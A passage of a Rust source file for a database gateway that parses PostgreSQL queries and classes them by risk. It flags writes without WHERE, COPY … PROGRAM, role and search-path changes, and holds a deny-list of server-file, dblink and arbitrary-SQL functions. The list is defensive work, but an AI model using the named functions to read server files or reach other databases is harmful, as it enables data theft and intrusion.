//! SQL classification from the real PostgreSQL grammar (libpg_query).
//!
//! Every statement is parsed by PostgreSQL's own parser and its *whole* tree is walked (the
//! tree is serialized and every node visited, so no node type can be skipped): a write hidden in
//! a CTE, a dangerous function in a sub-select, a `COPY … PROGRAM`, a `SET ROLE` in the third
//! statement of a multi-statement string all count. The class of a string is the most severe
//! class of anything in it. What PostgreSQL's parser rejects is refused; a statement type this
//! module does not know is classed `Admin` (fail closed).

use std::collections::{BTreeSet, HashMap};
use std::sync::{Arc, OnceLock};

use agentgate_crds::OperationClass;
use serde_json::Value;
use sha2::{Digest, Sha256};

/// How severe a class is, for taking the maximum over a statement's parts.
pub fn severity(c: OperationClass) -> u8 {
    match c {
        OperationClass::Read => 0,
        OperationClass::Write => 1,
        OperationClass::Ddl => 2,
        OperationClass::Privilege => 3,
        OperationClass::Exec => 4,
        OperationClass::Admin => 5,
    }
}

fn max(a: OperationClass, b: OperationClass) -> OperationClass {
    if severity(b) > severity(a) { b } else { a }
}

/// Something about a statement that guardrails look at besides its class.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub enum Flag {
    /// `UPDATE` or `DELETE` without a `WHERE` (or with one that reads no column, like
    /// `WHERE true` or `WHERE 1 = 1`).
    NoWhere(&'static str),
    /// `TRUNCATE`.
    Truncate,
    /// A function with side effects outside the data (by name), or a function or operator
    /// the catalog shows may be anyone's code (`app.f`, `OPERATOR(=)`); also
    /// `set_config` for a write to `pg_settings`.
    Function(String),
    /// `COPY … PROGRAM` or `COPY` to or from a server file.
    CopyServerSide,
    /// `EXECUTE name`: runs a statement prepared earlier in the session.
    ExecutePrepared(String),
    /// A statement type this classifier does not know.
    Unknown(String),
    /// `COPY … (FORMAT binary)`: values the gateway cannot inspect.
    CopyBinary,
    /// `DECLARE name CURSOR FOR …`: opens a cursor whose rows are read later.
    DeclareCursor(String),
    /// `FETCH`/`MOVE … name`: reads a cursor's rows (its query runs now).
    UseCursor(String),
    /// An `INSERT`, `UPDATE` or `MERGE` anywhere in the statement (a `WITH` query too): it
    /// stores values, which may be ones it read (unlike a row lock or a `DELETE`).
    StoresValues,
    /// `SET search_path`, `RESET search_path`, `SET ROLE`, `RESET ALL` or `DISCARD ALL`:
    /// what unqualified relation names resolve to may change.
    SearchPath(PathChange),
}

/// How a statement changes the session's search path (what unqualified names resolve to).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub enum PathChange {
    /// `SET [LOCAL] search_path TO a, b`: exactly these schema names, in order (`$user` as
    /// written); `local` for `SET LOCAL` (until the transaction ends).
    To {
        /// The schema names.
        path: Vec<String>,
        /// `SET LOCAL`.
        local: bool,
    },
    /// `RESET search_path`, `SET [LOCAL] search_path TO DEFAULT`, `RESET ALL`, `DISCARD
    /// ALL`: back to the session's initial path.
    Initial {
        /// `SET LOCAL`.
        local: bool,
    },
    /// `SET ROLE`, `SET SESSION AUTHORIZATION`, `RESET ROLE`: `$user` may name another role.
    Role,
    /// A form whose resulting path cannot be read from the statement (`FROM CURRENT`).
    Unknown,
    /// A relation or schema renamed or moved, or a schema created: what a name on the path
    /// finds may change before the catalog shows it.
    Names,
}

/// One statement of a query string.
#[derive(Debug, Clone, PartialEq)]
pub struct Statement {
    /// Its class: the most severe of everything inside it.
    pub class: OperationClass,
    /// Its command tag, e.g. `SELECT`, `DROP TABLE`, `UPDATE`.
    pub tag: String,
    /// What guardrails look at.
    pub flags: Vec<Flag>,
    /// Relations it names (`schema.table` or `table`).
    pub relations: BTreeSet<String>,
    /// Functions it calls (lower-case names, without schema), however they are called.
    pub functions: BTreeSet<String>,
    /// Every function call as `(schema, name)`: the schema as the server reads it (empty
    /// when the call names none), the name in lower case. `app.random()` is `("app",
    /// "random")`: not the built-in `random`.
    pub calls: BTreeSet<(String, String)>,
    /// Every operator it uses as `(schema, operator)` (schema empty when not named with
    /// `OPERATOR(schema.op)`), including those PostgreSQL looks up by name for it: `=` of
    /// `IN`, `CASE x WHEN`, `JOIN … USING`, `>=` and `<=` of `BETWEEN`, `ORDER BY … USING`.
    /// An operator runs its function, which may be anyone's code.
    pub operators: BTreeSet<(String, String)>,
    /// Column references as written (`["c", "email"]`, `["email"]`, `["c", "*"]`).
    pub columns: Vec<Vec<String>>,
    /// Aliases of relations: alias → every relation it names as written (`c` →
    /// `public.customers`); one alias may name several relations in different scopes of
    /// the statement.
    pub aliases: Aliases,
    /// Names that PostgreSQL may read as a one-argument function call in attribute notation
    /// (`x.f`, `(expr).f`), lower-case: looked up in the catalog like calls.
    pub attribute_calls: BTreeSet<String>,
    /// Relations it creates (`CREATE TABLE`, `… AS`, `SELECT … INTO`, views, sequences), as
    /// in `relations`; a temporary one as `pg_temp.name`.
    pub created: BTreeSet<String>,
    /// An alias list renames the columns of a table or a join (`customers AS c(a, b)`): a
    /// column name may then stand for another column, so names alone cannot say what a
    /// computed value reads.
    pub renamed: bool,
    /// It reads rows that are no relation's: a sub-select, a `WITH` query or a function in
    /// `FROM`, whose output columns may carry any column under any name.
    pub derived: bool,
}

/// The aliases of a statement's relations: each alias with every relation it names (as the
/// statement names them), in the order first seen. An alias may be reused in another scope
/// of the same statement (`(SELECT … FROM customers AS x), (SELECT … FROM orders AS x)`),
/// so what a reference through it reads is any of them.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Aliases(std::collections::BTreeMap<String, Vec<String>>);

impl Aliases {
    /// Every relation `alias` names, or `None` when it is no alias.
    pub fn get(&self, alias: &str) -> Option<&[String]> {
        self.0.get(alias).map(Vec::as_slice)
    }

    /// Adds `relation` to what `alias` names.
    pub fn add(&mut self, alias: String, relation: String) {
        let targets = self.0.entry(alias).or_default();
        if !targets.contains(&relation) {
            targets.push(relation);
        }
    }

    /// Whether there are no aliases.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Each alias with every relation it names.
    pub fn iter(&self) -> impl Iterator<Item = (&String, &[String])> {
        self.0.iter().map(|(a, r)| (a, r.as_slice()))
    }

    /// The relations `alias` names, to be filled when it names none yet (as
    /// `BTreeMap::entry`); [`Aliases::add`] adds to an alias that names some already.
    pub fn entry(&mut self, alias: String) -> AliasEntry<'_> {
        AliasEntry {
            map: &mut self.0,
            alias,
        }
    }

    /// Every relation named through an alias, to rewrite in place (a name resolved to its
    /// schema).
    pub fn values_mut(&mut self) -> impl Iterator<Item = &mut String> {
        self.0.values_mut().flatten()
    }
}

/// What [`Aliases::entry`] returns.
pub struct AliasEntry<'a> {
    map: &'a mut std::collections::BTreeMap<String, Vec<String>>,
    alias: String,
}

impl<'a> AliasEntry<'a> {
    /// The relations of the alias; when it names none yet, it is made to name `relation()`.
    pub fn or_insert_with(self, relation: impl FnOnce() -> String) -> &'a mut Vec<String> {
        self.map
            .entry(self.alias)
            .or_insert_with(|| vec![relation()])
    }
}

/// A classified query string.
#[derive(Debug, Clone, PartialEq)]
pub struct Classified {
    /// The statements, in order (shared by the texts of one shape: cloned only when
    /// changed).
    pub statements: Arc<Vec<Statement>>,
    /// The most severe class among them.
    pub class: OperationClass,
    /// A fingerprint of the exact command: the SHA-256 of PostgreSQL's canonical rendering of
    /// the parse tree, so whitespace, comments and letter case of keywords do not matter but
    /// every constant does. Computed when first asked for (most statements never need it).
    pub fingerprint: Fingerprint,
    /// The statement as audit records keep it ([`super::redact`]), when it is known already:
    /// shared by every statement of the same shape (drivers send a few shapes over and over),
    /// so it is computed once per shape, not per statement.
    pub redacted: Option<Arc<str>>,
    /// Where its unqualified relation names point on the session's search path, when the
    /// gateway resolved them (see [`Resolved`]); `None`: read as the default path reads them.
    pub resolved: Option<Arc<Resolved>>,
}

/// Unqualified relation names → every `schema.name` each may be on the session's search
/// path (more than one when the session may be on more than one path), or why that cannot
/// be told (the path was changed in a way the gateway cannot follow).
pub type Resolved = std::collections::BTreeMap<String, Result<Vec<String>, Arc<str>>>;

impl Classified {
    /// Whether what its statements run depends on what the catalog holds: it calls a
    /// function, names something that may be one in attribute notation, or uses an
    /// operator. Such a string must go through [`check_functions`] of the gateway's catalog
    /// before it is decided.
    ///
    /// [`check_functions`]: crate::gateway::postgres::catalog::Catalog::check_functions
    pub fn needs_catalog_check(&self) -> bool {
        self.statements.iter().any(|s| {
            !s.functions.is_empty()
                || !s.calls.is_empty()
                || !s.attribute_calls.is_empty()
                || !s.operators.is_empty()
        })
    }
}

/// The exact-command fingerprint of a query string, computed once, when first needed.
#[derive(Debug, Clone)]
pub struct Fingerprint {
    text: Arc<str>,
    value: Arc<OnceLock<String>>,
}

impl Fingerprint {
    /// The fingerprint of `sql` (not computed yet).
    pub fn of(sql: &str) -> Self {
        Self {
            text: Arc::from(sql),
            value: Arc::default(),
        }
    }

    /// The query string it is the fingerprint of (empty for one already known).
    pub fn text(&self) -> &str {
        &self.text
    }

    /// A fingerprint already known (a command of another protocol, or a test).
    pub fn known(hex: String) -> Self {
        Self {
            text: Arc::from(""),
            value: Arc::new(OnceLock::from(hex)),
        }
    }

    /// The fingerprint, hex.
    pub fn get(&self) -> &str {
        self.value.get_or_init(|| {
            let canonical = canonical(&self.text)
                .unwrap_or_else(|| self.text.split_whitespace().collect::<Vec<_>>().join(" "));
            hex(&Sha256::digest(canonical.as_bytes()))
        })
    }
}

/// `sql` as PostgreSQL's scanner reads it: its tokens, one space apart, comments and trailing
/// semicolons dropped, keywords and unquoted identifiers in lower case (as the server folds
/// them), constants and quoted identifiers exactly as written. `None` when it does not scan.
///
/// (From the scanner rather than a deparse of the parse tree: libpg_query's deparser crashes
/// on some trees, e.g. `LOAD ''`, found by fuzzing.)
fn canonical(sql: &str) -> Option<String> {
    use pg_query::protobuf::{KeywordKind, Token};
    let scanned = pg_query::scan(sql).ok()?;
    let mut tokens = Vec::with_capacity(scanned.tokens.len());
    for t in &scanned.tokens {
        let kind = Token::try_from(t.token).ok()?;
        if matches!(kind, Token::SqlComment | Token::CComment) {
            continue;
        }
        let text = sql.get(usize::try_from(t.start).ok()?..usize::try_from(t.end).ok()?)?;
        let fold = t.keyword_kind != KeywordKind::NoKeyword as i32
            || (kind == Token::Ident && !text.starts_with('"'));
        tokens.push((kind, text, fold));
    }
    while tokens.last().is_some_and(|(_, text, _)| *text == ";") {
        tokens.pop();
    }
    let mut out = String::with_capacity(sql.len());
    for (_, text, fold) in tokens {
        if !out.is_empty() {
            out.push(' ');
        }
        if fold {
            out.extend(text.chars().map(|c| c.to_ascii_lowercase()));
        } else {
            out.push_str(text);
        }
    }
    Some(out)
}

impl PartialEq for Fingerprint {
    fn eq(&self, other: &Self) -> bool {
        self.get() == other.get()
    }
}

impl std::fmt::Display for Fingerprint {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.get())
    }
}

/// Why a query string cannot be classified (and so is refused).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ClassifyError {
    /// PostgreSQL's parser rejects it.
    #[error("syntax error: {0}")]
    Syntax(String),
    /// It contains a NUL byte, which PostgreSQL never accepts in a query.
    #[error("the query contains a NUL byte")]
    Nul,
    /// It is empty.
    #[error("the query is empty")]
    Empty,
}

/// Functions with effects beyond reading data (lower-case names, any schema), and the class
/// they make a statement. `Exec` ones run SQL text they are given, reading any table.
pub fn function_class(name: &str) -> Option<OperationClass> {
    use OperationClass::*;
    Some(match name {
        // Server files, programs and administration.
        "pg_read_file"
        | "pg_read_binary_file"
        | "pg_ls_dir"
        | "pg_ls_logdir"
        | "pg_ls_waldir"
        | "pg_ls_tmpdir"
        | "pg_ls_archive_statusdir"
        | "pg_ls_logicalsnapdir"
        | "pg_ls_logicalmapdir"
        | "pg_ls_replslotdir"
        | "pg_stat_file"
        | "lo_import"
        | "lo_export"
        | "pg_file_write"
        | "pg_file_unlink"
        | "pg_file_rename"
        | "pg_file_sync"
        | "pg_logdir_ls"
        | "pg_terminate_backend"
        | "pg_cancel_backend"
        | "pg_reload_conf"
        | "pg_rotate_logfile"
        | "pg_promote"
        | "pg_switch_wal"
        | "pg_create_restore_point"
        | "pg_backup_start"
        | "pg_backup_stop"
        | "pg_start_backup"
        | "pg_stop_backup"
        | "pg_create_physical_replication_slot"
        | "pg_create_logical_replication_slot"
        | "pg_drop_replication_slot"
        | "pg_copy_physical_replication_slot"
        | "pg_copy_logical_replication_slot"
        | "pg_replication_origin_create"
        | "pg_replication_origin_drop"
        | "pg_replication_origin_advance"
        | "pg_log_backend_memory_contexts"
        | "pg_import_system_collations"
        | "pg_wal_replay_pause"
        | "pg_wal_replay_resume"
        | "pg_reload_conf_file"
        | "pg_signal_backend"
        | "pg_stat_reset"
        | "pg_stat_reset_shared"
        | "pg_stat_reset_single_table_counters"
        | "pg_stat_reset_single_function_counters"
        | "pg_stat_statements_reset"
        | "binary_upgrade_set_next_pg_type_oid"
        | "pg_show_all_file_settings"
        | "pg_hba_file_rules"
        | "pg_ident_file_mappings"
        | "pg_config"
        | "pg_get_shmem_allocations"
        | "pg_get_shmem_allocations_numa"
        | "pg_get_backend_memory_contexts"
        | "pg_current_logfile"
        | "pg_stat_reset_slru"
        | "pg_stat_reset_replication_slot"
        | "pg_stat_reset_subscription_stats"
        | "pg_replication_slot_advance"
        | "pg_logical_slot_get_changes"
        | "pg_logical_slot_peek_changes"
        | "pg_logical_slot_get_binary_changes"
        | "pg_logical_slot_peek_binary_changes"
        | "pg_logical_emit_message"
        | "pg_replication_origin_session_setup"
        | "pg_replication_origin_xact_setup"
        | "heap_force_kill"
        | "heap_force_freeze"
        | "pg_truncate_visibility_map"
        | "pg_prewarm" => Admin,
        // Run arbitrary SQL given as a string, or reach other databases.
        "dblink"
        | "dblink_exec"
        | "dblink_open"
        | "dblink_fetch"
        | "dblink_send_query"
        | "dblink_connect"
        | "dblink_connect_u"
        | "dblink_get_result"
        | "query_to_xml"
        | "query_to_xmlschema"
        | "query_to_xml_and_xmlschema"
        | "cursor_to_xml"
        | "cursor_to_xmlschema"
        | "table_to_xml"
        | "table_to_xmlschema"
        | "table_to_xml_and_xmlschema"
        | "schema_to_xml"
        | "schema_to_xmlschema"
        | "schema_to_xml_and_xmlschema"
        | "database_to_xml"
        | "database_to_xmlschema"
        | "database_to_xml_and_xmlschema"
        // Text search statistics and rewriting run the SQL text they are given (through the
        // server's internal query interface), out of the gateway's sight.
        | "ts_stat"
        | "ts_rewrite"
        // tablefunc and xml2 do the same.
        | "crosstab"
        | "crosstab2"
        | "crosstab3"
        | "crosstab4"
        | "connectby"
        | "xpath_table"
        // pg_cron runs what it is given later, as whoever scheduled it.
        | "schedule"
        | "schedule_in_database"
        | "alter_job" => Exec,
        // Change who the session is, or any setting.
        "set_config" => Privilege,
        // Change data.
        "nextval" | "setval" | "lo_create" | "lo_creat" | "lo_unlink" | "lo_put"
        | "lo_from_bytea" | "lowrite" | "lo_truncate" | "lo_truncate64" | "pg_notify" => Write,
        _ => return None,
    })
}

/// The class and tag of a statement node (the key of the node in the serialized tree).
fn statement_class(kind: &str, body: &Value) -> Option<(OperationClass, String)> {
    use OperationClass::*;
    let s = |c: OperationClass, t: &str| Some((c, t.to_owned()));
    match kind {
        "SelectStmt" => {
            if select_into(body).is_some() {
                s(Ddl, "SELECT INTO")
            } else {
                s(Read, "SELECT")
            }
        }
        "InsertStmt" => s(Write, "INSERT"),
        "UpdateStmt" => s(Write, "UPDATE"),
        "DeleteStmt" => s(Write, "DELETE"),
        "MergeStmt" => s(Write, "MERGE"),
        "LockStmt" => s(Write, "LOCK TABLE"),
        "TruncateStmt" => s(Ddl, "TRUNCATE"),
        "CopyStmt" => {
            let from = body
                .get("is_from")
                .and_then(Value::as_bool)
                .unwrap_or(false);
            let program = body
                .get("is_program")
                .and_then(Value::as_bool)
                .unwrap_or(false);
            let file = body
                .get("filename")
                .and_then(Value::as_str)
                .is_some_and(|f| !f.is_empty());
            if program || file {
                s(Admin, if from { "COPY FROM" } else { "COPY TO" })
            } else if from {
                s(Write, "COPY FROM")
            } else {
                s(Read, "COPY TO")
            }
        }
        "TransactionStmt" => {
            use pg_query::protobuf::TransactionStmtKind as K;
            let kind = body.get("kind").and_then(Value::as_i64).unwrap_or_default();
            let is = |k: K| kind == k as i64;
            if is(K::TransStmtPrepare) {
                // Parks the transaction for a later COMMIT PREPARED: what it did is a write.
                s(Write, "PREPARE TRANSACTION")
            } else if is(K::TransStmtCommitPrepared) || is(K::TransStmtRollbackPrepared) {
                // Decides another session's prepared transaction.
                s(Write, "COMMIT PREPARED")
            } else if options_set_read_write(body) {
                // Lifts the database's own read-only safety net: what a write needs.
                s(Write, "TRANSACTION READ WRITE")
            } else {
                s(Read, "TRANSACTION")
            }
        }
        "VariableShowStmt" => s(Read, "SHOW"),
        "ExplainStmt" => s(Read, "EXPLAIN"),
        "DeclareCursorStmt" => s(Read, "DECLARE CURSOR"),
        "FetchStmt" => s(Read, "FETCH"),
        "ClosePortalStmt" => s(Read, "CLOSE"),
        "PrepareStmt" => s(Read, "PREPARE"),
        "DeallocateStmt" => s(Read, "DEALLOCATE"),
        "DiscardStmt" => {
            // DISCARD ALL includes SET SESSION AUTHORIZATION DEFAULT and RESET ALL.
            let target = body
                .get("target")
                .and_then(Value::as_i64)
                .unwrap_or_default();
            if target == pg_query::protobuf::DiscardMode::DiscardAll as i64 {
                s(Privilege, "DISCARD ALL")
            } else if target == pg_query::protobuf::DiscardMode::DiscardTemp as i64 {
                // Drops every temporary table of the session (which may have hidden tables
                // of the same names on the search path).
                s(Ddl, "DISCARD TEMP")
            } else {
                // DISCARD PLANS, DISCARD SEQUENCES: caches only.
                s(Read, "DISCARD")
            }
        }
        "ListenStmt" => s(Read, "LISTEN"),
        "UnlistenStmt" => s(Read, "UNLISTEN"),
        "NotifyStmt" => s(Write, "NOTIFY"),
        "ConstraintsSetStmt" => s(Read, "SET CONSTRAINTS"),
        "ExecuteStmt" => s(Exec, "EXECUTE"),
        "DoStmt" => s(Exec, "DO"),
        "CallStmt" => s(Exec, "CALL"),
        "VariableSetStmt" => {
            use pg_query::protobuf::VariableSetKind as K;
            // Setting names are case-insensitive (`SET "ROLE"` is `SET role`).
            let name = body
                .get("name")
                .and_then(Value::as_str)
                .unwrap_or_default()
                .to_ascii_lowercase();
            let kind = body.get("kind").and_then(Value::as_i64).unwrap_or_default();
            match name.as_str() {
                "role" | "session_authorization" => s(Privilege, "SET ROLE"),
                // What names resolve to: followed by the gateway, and held to its own
                // guardrails (see `PathChange`).
                "search_path" => s(Privilege, "SET"),
                // The database's own read-only safety net: lifting it is what a write needs,
                // so it is classed as a write.
                "default_transaction_read_only" | "transaction_read_only"
                    if setting_lifts_read_only(body) =>
                {
                    s(Write, "SET READ WRITE")
                }
                // SET TRANSACTION / SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE.
                "transaction" | "session characteristics" if options_set_read_write(body) => {
                    s(Write, "SET READ WRITE")
                }
                // RESET ALL also resets the role, and every setting row-level security or
                // the application may read.
                "" if kind == K::VarResetAll as i64 => s(Privilege, "RESET ALL"),
                n if harmless_setting(n, body) => s(Read, "SET"),
                // Anything else may change what the session may see or do, or how the
                // server reads the statements agentgate checks: row-level security reads
                // custom settings (`request.jwt.claims`, `app.tenant_id`), others lift
                // limits (`work_mem`, a timeout of 0), change how strings are read
                // (`standard_conforming_strings`, `client_encoding`) or what is logged
                // (`log_*`, `pgaudit.*`). Settings are changed as `set_config` changes
                // them: a privilege.
                _ => s(Privilege, "SET"),
            }
        }
        "GrantStmt" => s(Privilege, "GRANT"),
        "GrantRoleStmt" => s(Privilege, "GRANT ROLE"),
        "CreateRoleStmt" => s(Privilege, "CREATE ROLE"),
        "AlterRoleStmt" => s(Privilege, "ALTER ROLE"),
        "AlterRoleSetStmt" => s(Privilege, "ALTER ROLE SET"),
        "DropRoleStmt" => s(Privilege, "DROP ROLE"),
        "AlterDefaultPrivilegesStmt" => s(Privilege, "ALTER DEFAULT PRIVILEGES"),
        "ReassignOwnedStmt" => s(Privilege, "REASSIGN OWNED"),
        "DropOwnedStmt" => s(Privilege, "DROP OWNED"),
        "AlterOwnerStmt" => s(Privilege, "ALTER OWNER"),
        "CreatePolicyStmt" => s(Privilege, "CREATE POLICY"),
        "AlterPolicyStmt" => s(Privilege, "ALTER POLICY"),
        "SecLabelStmt" => s(Privilege, "SECURITY LABEL"),
        "AlterSystemStmt" => s(Admin, "ALTER SYSTEM"),
        "LoadStmt" => s(Admin, "LOAD"),
        "CreateExtensionStmt" => s(Admin, "CREATE EXTENSION"),
        "AlterExtensionStmt" => s(Admin, "ALTER EXTENSION"),
        "AlterExtensionContentsStmt" => s(Admin, "ALTER EXTENSION"),
        "CreatedbStmt" => s(Admin, "CREATE DATABASE"),
        "DropdbStmt" => s(Admin, "DROP DATABASE"),
        "AlterDatabaseStmt" => s(Admin, "ALTER DATABASE"),
        "AlterDatabaseSetStmt" => s(Admin, "ALTER DATABASE SET"),
        "AlterDatabaseRefreshCollStmt" => s(Admin, "ALTER DATABASE"),
        "CreateTableSpaceStmt" => s(Admin, "CREATE TABLESPACE"),
        "DropTableSpaceStmt" => s(Admin, "DROP TABLESPACE"),
        "AlterTableSpaceOptionsStmt" => s(Admin, "ALTER TABLESPACE"),
        "AlterTableMoveAllStmt" => s(Admin, "ALTER TABLE ALL"),
        "CreateFdwStmt"
        | "AlterFdwStmt"
        | "CreateForeignServerStmt"
        | "AlterForeignServerStmt"
        | "CreateUserMappingStmt"
        | "AlterUserMappingStmt"
        | "DropUserMappingStmt"
        | "ImportForeignSchemaStmt" => s(Admin, "FOREIGN DATA"),
        "CreateSubscriptionStmt"
        | "AlterSubscriptionStmt"
        | "DropSubscriptionStmt"
        | "CreatePublicationStmt"
        | "AlterPublicationStmt" => s(Admin, "REPLICATION"),
        "CreateEventTrigStmt" | "AlterEventTrigStmt" => s(Admin, "EVENT TRIGGER"),
        "VacuumStmt" => s(Admin, "VACUUM"),
        "ClusterStmt" => s(Admin, "CLUSTER"),
        "CheckPointStmt" => s(Admin, "CHECKPOINT"),
        "ReindexStmt" => s(Admin, "REINDEX"),
        "AlterSystem" => s(Admin, "ALTER SYSTEM"),
        "CreateConversionStmt"
        | "CreateCastStmt"
        | "CreateOpClassStmt"
        | "CreateOpFamilyStmt"
        | "AlterOpFamilyStmt"
        | "CreatePLangStmt"
        | "CreateTransformStmt"
        | "CreateAmStmt" => s(Admin, "CREATE"),
        "DropStmt" => {
            use pg_query::protobuf::ObjectType as O;
            let object = body
                .get("remove_type")
                .and_then(Value::as_i64)
                .and_then(|n| i32::try_from(n).ok())
                .and_then(|n| O::try_from(n).ok());
            let what = object
                .map(|t| t.as_str_name())
                .unwrap_or("OBJECT_TABLE")
                .trim_start_matches("OBJECT_")
                .replace('_', " ");
            let class = match object {
                // Row-level security policies, triggers and rules decide who sees what and
                // what is recorded: dropping one (a restrictive policy, an audit trigger)
                // is a privilege change, as creating a policy or disabling a trigger is.
                Some(O::ObjectPolicy | O::ObjectTrigger | O::ObjectRule) => Privilege,
                // Dropping what only its `Admin` creation makes: event triggers (which
                // also audit or forbid DDL), extensions, publications, foreign-data
                // wrappers and servers, languages, casts, operator classes and families,
                // transforms, access methods, conversions.
                Some(
                    O::ObjectEventTrigger
                    | O::ObjectExtension
                    | O::ObjectPublication
                    | O::ObjectFdw
                    | O::ObjectForeignServer
                    | O::ObjectLanguage
                    | O::ObjectCast
                    | O::ObjectOpclass
                    | O::ObjectOpfamily
                    | O::ObjectTransform
                    | O::ObjectAccessMethod
                    | O::ObjectConversion,
                ) => Admin,
                // An object type this version does not know: fail closed.
                None => Admin,
                Some(_) => Ddl,
            };
            Some((class, format!("DROP {what}")))
        }
        "CreateStmt" => s(Ddl, "CREATE TABLE"),
        "CreateTableAsStmt" => s(Ddl, "CREATE TABLE AS"),
        "IndexStmt" => s(Ddl, "CREATE INDEX"),
        "ViewStmt" => s(Ddl, "CREATE VIEW"),
        "AlterTableStmt" => s(Ddl, "ALTER TABLE"),
        "RenameStmt" => s(Ddl, "ALTER RENAME"),
        // Objects that carry code the server runs later, on statements that do not name it
        // (a rule, a trigger, a function behind an operator or an aggregate): creating one
        // is running code, whatever statement later sets it off.
        "RuleStmt" => s(Exec, "CREATE RULE"),
        "CreateFunctionStmt" => s(Exec, "CREATE FUNCTION"),
        "AlterFunctionStmt" => s(Ddl, "ALTER FUNCTION"),
        "CreateTrigStmt" => s(Exec, "CREATE TRIGGER"),
        "CreateSeqStmt" => s(Ddl, "CREATE SEQUENCE"),
        "AlterSeqStmt" => s(Ddl, "ALTER SEQUENCE"),
        "CreateSchemaStmt" => s(Ddl, "CREATE SCHEMA"),
        "CreateDomainStmt" | "AlterDomainStmt" => s(Ddl, "DOMAIN"),
        "CompositeTypeStmt" | "CreateEnumStmt" | "AlterEnumStmt" | "CreateRangeStmt"
        | "AlterTypeStmt" => s(Ddl, "TYPE"),
        "DefineStmt" => s(Exec, "CREATE"),
        "CommentStmt" => s(Ddl, "COMMENT"),
        "AlterObjectSchemaStmt" => s(Ddl, "ALTER SET SCHEMA"),
        "AlterObjectDependsStmt" => s(Ddl, "ALTER DEPENDS"),
        "RefreshMatViewStmt" => s(Write, "REFRESH MATERIALIZED VIEW"),
        "CreateStatsStmt" | "AlterStatsStmt" => s(Ddl, "STATISTICS"),
        "AlterCollationStmt" | "AlterTSDictionaryStmt" | "AlterTSConfigurationStmt" => {
            s(Ddl, "ALTER")
        }
        "CreateForeignTableStmt" => s(Admin, "CREATE FOREIGN TABLE"),
        "AlterOperatorStmt" => s(Ddl, "ALTER OPERATOR"),
        "AlterPublication" => s(Admin, "REPLICATION"),
        "PLAssignStmt" => s(Exec, "ASSIGN"),
        "ReturnStmt" => s(Read, "RETURN"),
        _ if kind.ends_with("Stmt") => Some((Admin, format!("unknown statement {kind}"))),
        _ => None,
    }
}

#[derive(Default)]
struct Walk {
    class: Option<OperationClass>,
    tag: Option<String>,
    flags: Vec<Flag>,
    relations: BTreeSet<String>,
    functions: BTreeSet<String>,
    calls: BTreeSet<(String, String)>,
    operators: BTreeSet<(String, String)>,
    columns: Vec<Vec<String>>,
    aliases: Aliases,
    attribute_calls: BTreeSet<String>,
    created: BTreeSet<String>,
    renamed: bool,
    derived: bool,
    /// The names of the `WITH` queries visible where the walk is: an unqualified name in a
    /// `FROM` list that is one of them reads that query, not a table.
    ctes: Vec<String>,
}

impl Walk {
    fn raise(&mut self, c: OperationClass) {
        self.class = Some(match self.class {
            Some(old) => max(old, c),
            None => c,
        });
    }
}

/// Whether a RangeVar's or a join's alias lists new column names.
fn alias_renames(body: &Value) -> bool {
    body.get("alias")
        .and_then(|a| a.get("colnames"))
        .and_then(Value::as_array)
        .is_some_and(|c| !c.is_empty())
}

/// The `INTO` clause of a `SELECT`: PostgreSQL takes it from the leftmost branch of a set
/// operation (`SELECT … INTO t UNION SELECT …` creates `t`), where the parser leaves it.
fn select_into(body: &Value) -> Option<&Value> {
    let mut node = body;
    loop {
        if let Some(into) = node.get("into_clause").filter(|c| !c.is_null()) {
            return Some(into);
        }
        node = node.get("larg").filter(|l| !l.is_null())?;
    }
}

fn has_column_ref(v: &Value) -> bool {
    match v {
        Value::Object(m) => m.iter().any(|(k, v)| k == "ColumnRef" || has_column_ref(v)),
        Value::Array(a) => a.iter().any(has_column_ref),
        _ => false,
    }
}

fn string_parts(list: &Value) -> Vec<String> {
    list.as_array()
        .into_iter()
        .flatten()
        .filter_map(|n| {
            n.get("node")
                .unwrap_or(n)
                .get("String")
                .and_then(|s| s.get("sval"))
                .and_then(Value::as_str)
        })
        .map(str::to_owned)
        .collect()
}

fn walk(v: &Value, w: &mut Walk) {
    match v {
        Value::Object(m) => {
            for (k, body) in m {
                if let Some((class, tag)) = statement_class(k, body) {
                    w.raise(class);
                    if w.tag.is_none() {
                        w.tag = Some(tag.clone());
                    }
                    match k.as_str() {
                        "UpdateStmt" | "DeleteStmt" => {
                            let clause = body.get("where_clause").filter(|c| !c.is_null());
                            let constant = clause.is_none_or(|c| !has_column_ref(c));
                            let current_of =
                                clause.is_some_and(|c| c.get("CurrentOfExpr").is_some());
                            if constant && !current_of {
                                w.flags.push(Flag::NoWhere(if k == "UpdateStmt" {
                                    "UPDATE"
                                } else {
                                    "DELETE"
                                }));
                            }
                        }
                        "TruncateStmt" => w.flags.push(Flag::Truncate),
                        "CopyStmt" => {
                            if class == OperationClass::Admin {
                                w.flags.push(Flag::CopyServerSide);
                            }
                            let binary = body
                                .get("options")
                                .and_then(Value::as_array)
                                .into_iter()
                                .flatten()
                                .any(|o| {
                                    let d = o.get("node").unwrap_or(o).get("DefElem");
                                    let name =
                                        d.and_then(|d| d.get("defname")).and_then(Value::as_str);
                                    let arg = d
                                        .and_then(|d| d.get("arg"))
                                        .map(|a| a.get("node").unwrap_or(a))
                                        .and_then(|a| a.get("String"))
                                        .and_then(|s| s.get("sval"))
                                        .and_then(Value::as_str);
                                    name == Some("format")
                                        && arg.is_some_and(|a| a.eq_ignore_ascii_case("binary"))
                                });
                            if binary {
                                w.flags.push(Flag::CopyBinary);
                            }
                            // `COPY table TO …` reads whole rows (or the listed columns).
                            if let Some(rel) = body.get("relation").filter(|r| !r.is_null()) {
                                let (schema, name) = range_var(rel);
                                let qualified = relation_name(schema, name);
                                let cols =
                                    string_parts(body.get("attlist").unwrap_or(&Value::Null));
                                if cols.is_empty() {
                                    w.columns.push(vec![qualified, "*".into()]);
                                } else {
                                    for c in cols {
                                        w.columns.push(vec![qualified.clone(), c]);
                                    }
                                }
                            }
                        }
                        "DeclareCursorStmt" | "FetchStmt" => {
                            let name = body
                                .get("portalname")
                                .and_then(Value::as_str)
                                .unwrap_or_default()
                                .to_owned();
                            w.flags.push(if k == "FetchStmt" {
                                Flag::UseCursor(name)
